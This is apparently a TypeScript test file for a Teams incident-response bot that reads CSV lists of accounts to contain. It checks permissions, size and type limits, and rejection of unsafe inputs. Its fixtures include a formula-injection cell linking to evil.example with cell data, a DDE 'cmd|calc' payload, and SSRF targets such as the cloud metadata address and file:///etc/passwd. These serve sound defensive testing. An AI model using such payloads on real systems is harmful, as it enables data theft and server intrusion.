import assert from 'node:assert/strict';
import { practicePersonalChat } from '../../practice/teams/activities.ts';
import { inputs, shown as read } from '../harness/cards.ts';
import { cardOf, placeOf, startHarness, type Harness } from '../harness/harness.ts';
import { opened, told } from '../harness/stories.ts';
import { messageWithFile, startFileHost } from '../harness/shared-file.ts';

const line = 'contain because INC-4821';
const csv = 'Name,UserPrincipalName\r\nAlex Wilber,alex@contoso.com\r\n"Archie, Grady",grady@contoso.com\r\n';
const incidents = { id: '19:incidents@thread.tacv2', name: 'Incidents' };
const breach = { id: '19:breach@thread.tacv2', name: 'Breach 7' };
const inChannels = (...channels: readonly object[]) => ({ policy: { channels: { incidents: channels } } });

/** A Cordon, and what happens when Megan sends it a file with this content in her personal chat. */
async function withFile(content: string | Uint8Array, settings: Parameters<typeof startHarness>[0] = {}) {
  const story = await startHarness(settings);
  const host = await startFileHost();
  const send = (text = line, address = host.share(content)) => story.send(messageWithFile(story, { text, address }));
  return { story, host, send };
}

/** Whether any card of a request was posted. */
const hasRequest = ({ connector }: Harness): boolean =>
  connector.events.some(({ activity }) => / awaiting-confirmation: /.test(cardOf(activity)?.fallbackText ?? ''));

describe('a CSV file in the personal chat', () => {
  it('names the targets of the command beside it; where no incident channels are named the request lives in the chat', async () => {
    const { story, host, send } = await withFile(csv);

    const { card } = await opened(story, () => send());

    assert.match(card.text, /asked to contain 2 people because INC-4821/);
    assert.match(read(card.card), /Alex Wilber[^]*Grady Archie/);
    assert.deepEqual(placeOf(card), practicePersonalChat('megan'));
    assert.ok(!host.asked.flatMap(({ headers }) => headers).includes('authorization'));
  });

  it('leads to a thread of the only incident channel in which its sender may ask, and the chat says so', async () => {
    const own = { ...breach, responders: { people: ['lee@contoso.com'] } };
    const { story, send } = await withFile(csv, inChannels(incidents, own));

    const { id, card } = await opened(story, () => send());
    const post = await story.card(/^2 people looked up: OP-/);

    assert.match(card.conversation, /^19:incidents@thread\.tacv2;messageid=/);
    await story.card(/^Megan Bowen asks: contain\. 2 accounts from a file/);
    assert.deepEqual(placeOf(post), practicePersonalChat('megan'));
    assert.match(post.text, new RegExp(id));
  });

  it('asks for the channel where there are several, and takes no other', async () => {
    const { story, send } = await withFile(csv, inChannels(incidents, breach));
    await send();
    const question = await story.card(/^Which channel\?/);

    const none = await story.press('megan', question, 'leave-out');
    const foreign = await story.press('megan', question, 'leave-out', { channel: '19:gossip@thread.tacv2' });
    const { card } = await opened(story, () => story.press('megan', question, 'leave-out', { channel: breach.id }));

    const choices = inputs(question.card).find(({ id }) => id === 'channel')?.json['choices'];
    assert.deepEqual(
      choices,
      [incidents, breach].map(({ id, name }) => ({ title: name, value: id })),
    );
    for (const answer of [none, foreign]) assert.match(told(answer), /Choose a channel/);
    assert.match(card.conversation, /^19:breach@thread\.tacv2;messageid=/);
  });

  it('is not read for somebody who may ask in no incident channel', async () => {
    const own = { ...incidents, responders: { people: ['lee@contoso.com'] } };
    const { story, host, send } = await withFile(csv, inChannels(own));

    await send();
    await story.card(/^You may not use Cordon here|^Commands are not taken here|^You may not ask for this/);

    assert.deepEqual(host.asked, []);
    assert.ok(!hasRequest(story));
  });

  it('asks once about rows that name nobody, cells like formulas among them, and evaluates none', async () => {
    const rows = [
      'user',
      'alex@contoso.com',
      '=HYPERLINK("https://evil.example/?"&A1;"x")',
      '@SUM(1+1)*cmd|calc',
      'alxe@contoso.com',
    ];
    const { story, send } = await withFile(rows.join('\n'));
    await send();
    const question = await story.card(/^3 lines are unclear/);

    assert.match(read(question.card), /3: =HYPERLINK\("https:…? ?·?/);
    assert.doesNotMatch(
      JSON.stringify(question.card.body.filter((element) => element.type === 'TextBlock')),
      /evil\.example/,
    );
    const { card } = await opened(story, () => story.press('megan', question, 'leave-out'));
    assert.match(card.text, /Alex Wilber/);
  });

  it('opens nothing in silence when Teams closes the channel to Cordon', async () => {
    const { story, send } = await withFile(csv, inChannels(incidents));
    story.connector.failNext({ match: 'POST /v3/conversations', times: 20, status: 403 });

    await send();

    await story.card(/^Nothing was opened\. Teams did not let Cordon post in Incidents/);
    assert.ok(!hasRequest(story));
  });

  const binary = Buffer.from([0x00, 0x01, 0x02, 0x03]);
  const table: readonly (readonly [string, string | Uint8Array, RegExp])[] = [
    ['5 MB', Buffer.alloc(5_000_000, 'a'), /Expected 1 MB at most; the file is larger/],
    ['binary', binary, /Expected text, such as CSV; this is no text/],
    ['an Excel workbook', Buffer.from('PK\u0003\u0004xl/workbook.xml'), /this is an Excel workbook .*Save it as CSV/],
    ['empty', '\r\n\r\n', /Expected a row for each account; the file has none/],
    ['without an account', 'Name,City\nAlex,Bern\n', /Expected a column with the address or object id/],
    [
      '3,000 rows',
      `upn\n${Array.from({ length: 3000 }, (_, n) => `p${String(n)}@contoso.com`).join('\n')}`,
      /Expected 2000 rows at most; the file has 3000/,
    ],
    [
      'over the limit',
      Array.from({ length: 26 }, (_, n) => `p${String(n)}@contoso.com`).join('\n'),
      /25 people at most, .* names 26/,
    ],
  ];
  for (const [what, content, words] of table)
    it(`is refused when it is ${what}`, async () => {
      const { story, send } = await withFile(content, { policy: { limits: { targets: 25 } } });

      await send();
      const post = await story.card(/^Nothing was opened/);

      assert.match(post.text, words);
      assert.match(
        post.text,
        what === 'over the limit' ? /accounts\.csv/ : /^Nothing was opened\. accounts\.csv: Expected/,
      );
      assert.ok(!hasRequest(story));
    });

  for (const address of [
    'https://contoso.sharepoint.com.evil.example/a.csv',
    'https://sharepoint.com/a.csv',
    'http://contoso.sharepoint.com/a.csv',
    'https://user:secret@contoso.sharepoint.com/a.csv',
    'https://contoso.sharepoint.com:8443/a.csv',
    'http://169.254.169.254/latest/meta-data',
    'file:///etc/passwd',
    'no address',
  ])
    it(`is not read from ${address}`, async () => {
      const { story, send } = await withFile(csv);

      await send(line, address);
      const post = await story.card(/^Nothing was opened/);

      assert.match(post.text, /Expected a file in SharePoint or OneDrive; it is at .*It was not read/);
      assert.doesNotMatch(post.text + story.logged(), /a\.csv|meta-data|secret@/);
    });

  it('is not read where a redirect leads to another host, and no log has its address', async () => {
    const { story, host, send } = await withFile(csv);

    await send(line, host.redirect('http://169.254.169.254/latest/meta-data'));
    const post = await story.card(/^Nothing was opened/);

    assert.match(post.text, /it is at http:\/\/169\.254\.169\.254\. It was not read/);
    assert.doesNotMatch(story.logged(), /redirect-0|tempauth/);
  });

  it('stops at 1 MB of a file that never ends', async () => {
    const { story, host, send } = await withFile('');

    await send(line, host.endless);

    await story.card(/Expected 1 MB at most/);
  });

  it('is asked about when it comes without a command', async () => {
    const { story, host, send } = await withFile(csv);

    await send('');

    await story.card(/^What shall I do with “accounts\.csv”\?.*contain because INC-4821/);
    assert.deepEqual(host.asked, []);
  });

  it('is sent once more when it comes to a channel, where Teams does not hand it over', async () => {
    const story = await startHarness();
    const text = story.connector.message({
      from: 'megan',
      text: 'contain because INC-4821',
      conversation: story.thread,
    });
    const html = `<p><at>Cordon</at> contain because INC-4821</p><attachment id="1150d938"></attachment>`;

    await story.send({ ...text, attachments: [{ contentType: 'text/html', content: html }] });

    await story.card(/Teams gives bots no files in channels and groups\. Send it in a chat with me alone/);
  });

  it('is not read beside targets that were typed, and its sender is told', async () => {
    const { story, host, send } = await withFile(csv);

    const { card } = await opened(story, () => send('contain alex@contoso.com because INC-4821'));
    await story.card(/The file was not read: a file is read when it alone names the targets/);

    assert.match(card.text, /Alex Wilber/);
    assert.deepEqual(host.asked, []);
  });
});
